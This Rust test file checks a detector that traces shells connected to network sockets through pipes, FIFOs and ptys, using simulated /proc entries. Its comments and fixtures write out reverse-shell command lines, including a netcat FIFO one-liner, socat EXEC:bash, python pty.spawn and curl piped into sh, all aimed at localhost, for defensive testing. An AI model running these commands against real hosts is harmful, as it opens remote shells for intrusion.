use std::collections::HashMap;

use super::*;
use crate::collect::owners::{FdError, ProcFs};

/// comm, command line, and fds with their access modes.
type FakeProcess = (String, String, Vec<(u32, FdTarget, Access)>);

/// A tiny /proc: per pid its comm, command line and fds with access modes.
#[derive(Default)]
struct Host {
    procs: HashMap<u32, FakeProcess>,
    fifos: HashMap<(u32, u32), (u64, u64)>,
    peers: HashMap<u32, u32>,
}

use Access::{Read as R, ReadWrite as RW, Write as W};
use FdTarget::{LowFdPath, Pipe, PtyMaster, PtySlave, Socket};

impl Host {
    fn add(&mut self, pid: u32, comm: &str, cmdline: &str, fds: &[(u32, FdTarget, Access)]) -> &mut Self {
        self.procs.insert(pid, (comm.into(), cmdline.into(), fds.to_vec()));
        self
    }

    fn links(&mut self, inet: &[u32]) -> FxHashMap<u32, Vec<ShellLink>> {
        let mut cache = OwnerCache::new();
        let inet: FxHashSet<u32> = inet.iter().copied().collect();
        cache.refresh(self, &inet);
        let holders: FxHashSet<u32> = inet.iter().flat_map(|i| cache.owners(*i).to_vec()).map(|p| p.0).collect();
        shell_links(&cache, &inet, &holders, self)
    }
}

impl ProcFs for Host {
    fn pids(&mut self) -> Vec<u32> {
        self.procs.keys().copied().collect()
    }
    fn identity(&mut self, pid: u32) -> Result<u64, FdError> {
        self.procs.contains_key(&pid).then_some(u64::from(pid)).ok_or(FdError::Gone)
    }
    fn fd_count(&mut self, pid: u32) -> Result<Option<u64>, FdError> {
        self.procs.get(&pid).map(|p| Some(p.2.len() as u64)).ok_or(FdError::Gone)
    }
    fn list_fds(&mut self, pid: u32) -> Result<Vec<u32>, FdError> {
        self.procs.get(&pid).map(|p| p.2.iter().map(|f| f.0).collect()).ok_or(FdError::Gone)
    }
    fn read_fd(&mut self, pid: u32, fd: u32) -> Option<FdTarget> {
        self.procs.get(&pid)?.2.iter().find(|f| f.0 == fd).map(|f| f.1)
    }
    fn comm(&mut self, pid: u32) -> Option<String> {
        self.procs.get(&pid).map(|p| p.0.clone())
    }
    fn argv0_bracketed(&mut self, pid: u32) -> bool {
        self.procs.get(&pid).is_some_and(|p| p.1.starts_with('['))
    }
    fn has_exe(&mut self, pid: u32) -> bool {
        self.procs.contains_key(&pid)
    }
}

impl Probe for Host {
    fn access(&mut self, pid: u32, fd: u32) -> Option<Access> {
        self.procs.get(&pid)?.2.iter().find(|f| f.0 == fd).map(|f| f.2)
    }
    fn unix_peer(&mut self, inode: u32) -> Option<u32> {
        self.peers.get(&inode).copied()
    }
    fn fifo(&mut self, pid: u32, fd: u32) -> Option<(u64, u64)> {
        self.fifos.get(&(pid, fd)).copied()
    }
    fn link(&mut self, _pid: u32, _fd: u32) -> Option<String> {
        Some("/tmp/f".into())
    }
    fn cmdline(&mut self, pid: u32) -> Option<String> {
        self.procs.get(&pid).map(|p| p.1.clone())
    }
}

fn described(links: &FxHashMap<u32, Vec<ShellLink>>, holder: u32) -> Vec<String> {
    links.get(&holder).map(|l| l.iter().map(ShellLink::describe).collect()).unwrap_or_default()
}

#[test]
fn a_fifo_and_nc_from_a_script_reach_nc_both_ways() {
    // cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f
    let mut h = Host::default();
    let f = LowFdPath(77);
    // cat opens the FIFO itself (fd 3); nc has it on its redirected stdout.
    h.add(39, "cat", "cat /tmp/f", &[(0, PtySlave(0), RW), (1, Pipe(1), W), (2, PtySlave(0), RW), (3, f, R)])
        .add(40, "sh", "sh -i", &[(0, Pipe(1), R), (1, Pipe(2), W), (2, Pipe(2), W)])
        .add(41, "nc", "nc 127.0.0.1 4444", &[(0, Pipe(2), R), (1, f, W), (3, Socket(100), RW)]);
    h.fifos.insert((39, 3), (1, 555));
    h.fifos.insert((41, 1), (1, 555));
    let links = h.links(&[100]);
    assert_eq!(links.keys().copied().collect::<Vec<_>>(), vec![41]);
    let link = &links[&41][0];
    assert!(link.is_both());
    assert_eq!(
        described(&links, 41),
        vec!["input sh (40) fd 0 → pipe:[1] ← cat (39) fd 1; cat (39) fd 3 → fifo /tmp/f ← nc (41) fd 1 · output sh (40) fd 1 → pipe:[2] ← nc (41) fd 0"]
    );
}

#[test]
fn a_fifo_needs_the_same_fifo_not_just_the_same_path_hash() {
    let mut h = Host::default();
    let f = LowFdPath(77);
    h.add(40, "sh", "sh", &[(0, f, R)]).add(41, "nc", "nc", &[(1, f, W), (3, Socket(100), RW)]);
    h.fifos.insert((40, 0), (1, 555));
    // nc's fd 1 is a regular file of the same name in another mount: no FIFO.
    assert!(h.links(&[100]).is_empty());
}

#[test]
fn children_that_inherit_a_loops_pipes_are_not_its_plumbing() {
    // ls | while read f; do curl …; done | grep x
    let mut h = Host::default();
    h.add(50, "bash", "bash script.sh", &[(0, Pipe(5), R), (1, Pipe(6), W)])
        .add(51, "ls", "ls", &[(1, Pipe(5), W)])
        .add(52, "curl", "curl http://127.0.0.1/", &[(0, Pipe(5), R), (1, Pipe(6), W), (3, Socket(200), RW)])
        .add(53, "grep", "grep x", &[(0, Pipe(6), R)]);
    assert!(h.links(&[200]).is_empty(), "curl reads the loop's input and writes its output, like the loop itself");
}

#[test]
fn curl_piped_into_sh_is_input_only() {
    let mut h = Host::default();
    h.add(60, "curl", "curl -s https://example.test/install.sh", &[(1, Pipe(9), W), (3, Socket(300), RW)]).add(
        61,
        "sh",
        "sh",
        &[(0, Pipe(9), R), (1, PtySlave(4), RW)],
    );
    let links = h.links(&[300]);
    let link = &links[&60][0];
    assert!(!link.is_both());
    assert_eq!(link.input.len(), 1);
    assert!(link.output.is_empty());
}

#[test]
fn a_pty_master_and_a_socketpair_carry_both_directions() {
    let mut h = Host::default();
    h.add(70, "socat", "socat TCP:127.0.0.1:4444 EXEC:bash,pty", &[(3, Socket(400), RW), (5, PtyMaster(3), RW)])
        .add(71, "bash", "bash", &[(0, PtySlave(3), RW), (1, PtySlave(3), RW), (2, PtySlave(3), RW)])
        .add(72, "socat", "socat TCP:127.0.0.1:4445 EXEC:bash", &[(3, Socket(410), RW), (5, Socket(411), RW)])
        .add(73, "bash", "bash", &[(0, Socket(412), RW), (1, Socket(412), RW)]);
    h.peers.insert(412, 411);
    let links = h.links(&[400, 410]);
    assert_eq!(
        described(&links, 70),
        vec!["input bash (71) fd 0 → /dev/pts/3 ← socat (70) fd 5 (master) · output bash (71) fd 1 → /dev/pts/3 ← socat (70) fd 5 (master)"]
    );
    assert_eq!(
        described(&links, 72),
        vec!["input bash (73) fd 0 → socketpair:[412] ← socat (72) fd 5 · output bash (73) fd 1 → socketpair:[412] ← socat (72) fd 5"]
    );
}

#[test]
fn interpreters_count_only_when_they_run_a_shell() {
    let mut h = Host::default();
    h.add(80, "socat", "socat TCP:127.0.0.1:1 EXEC:python3", &[(3, Socket(500), RW), (5, PtyMaster(6), RW), (6, PtyMaster(7), RW)])
        .add(81, "python3", "python3 -m http.server", &[(0, PtySlave(6), RW), (1, PtySlave(6), RW)])
        .add(82, "python3", "python3 -c import pty; pty.spawn('/bin/bash')", &[(0, PtySlave(7), RW), (1, PtySlave(7), RW)]);
    let links = h.links(&[500]);
    let pids: Vec<u32> = links[&80].iter().map(|l| l.pid).collect();
    assert_eq!(pids, vec![82]);
    assert!(spawns_a_shell("busybox sh -i"));
    assert!(spawns_a_shell("node -e require('child_process').spawn('/bin/sh',[])"));
    assert!(!spawns_a_shell("node server.js --port 3000"));
    assert!(!spawns_a_shell("python3 manage.py runserver"));
}

#[test]
fn a_shell_behind_a_pty_helper_is_found_through_it_within_three_hops() {
    // bash on a pty whose master a helper holds; the helper's stdio are
    // pipes to a server that holds the socket (how editor servers host
    // terminals). Three hops and no more.
    let mut h = Host::default();
    h.add(90, "node", "node server.js", &[(3, Socket(600), RW), (10, Pipe(20), W), (11, Pipe(21), R)])
        .add(91, "ptyhost", "ptyhost", &[(0, Pipe(20), R), (1, Pipe(21), W), (5, PtyMaster(9), RW)])
        .add(92, "bash", "bash", &[(0, PtySlave(9), RW), (1, PtySlave(9), RW)]);
    let links = h.links(&[600]);
    assert_eq!(
        described(&links, 90),
        vec![
            "input bash (92) fd 0 → /dev/pts/9 ← ptyhost (91) fd 5 (master); ptyhost (91) fd 0 → pipe:[20] ← node (90) fd 10 · output bash (92) fd 1 → /dev/pts/9 ← ptyhost (91) fd 5 (master); ptyhost (91) fd 1 → pipe:[21] ← node (90) fd 11"
        ]
    );
    // Four hops away: nothing.
    let mut far = Host::default();
    far.add(1, "sh", "sh", &[(0, Pipe(1), R)])
        .add(2, "cat", "cat", &[(0, Pipe(2), R), (1, Pipe(1), W)])
        .add(3, "cat", "cat", &[(0, Pipe(3), R), (1, Pipe(2), W)])
        .add(4, "cat", "cat", &[(0, Pipe(4), R), (1, Pipe(3), W)])
        .add(5, "nc", "nc", &[(1, Pipe(4), W), (3, Socket(700), RW)]);
    assert!(far.links(&[700]).is_empty());
    far.procs.remove(&4);
    far.add(4, "nc", "nc", &[(1, Pipe(3), W), (3, Socket(701), RW)]);
    assert_eq!(far.links(&[700, 701])[&4][0].input.len(), 3);
}

#[test]
fn a_pipe_shared_by_many_processes_is_a_log_pipe_not_plumbing() {
    // Twenty children of one supervisor all write their stderr into one
    // pipe the supervisor (holding a socket) reads.
    let mut h = Host::default();
    h.add(100, "supervisord", "supervisord", &[(3, Socket(900), RW), (4, Pipe(50), R)]);
    for pid in 101..121 {
        h.add(pid, "sh", "sh -c job", &[(2, Pipe(50), W)]);
    }
    assert!(h.links(&[900]).is_empty());
    // A few holders are still a private channel.
    let mut few = Host::default();
    few.add(100, "supervisord", "supervisord", &[(3, Socket(900), RW), (4, Pipe(50), R)]);
    for pid in 101..104 {
        few.add(pid, "sh", "sh -c job", &[(2, Pipe(50), W)]);
    }
    assert_eq!(few.links(&[900])[&100].len(), 3);
}
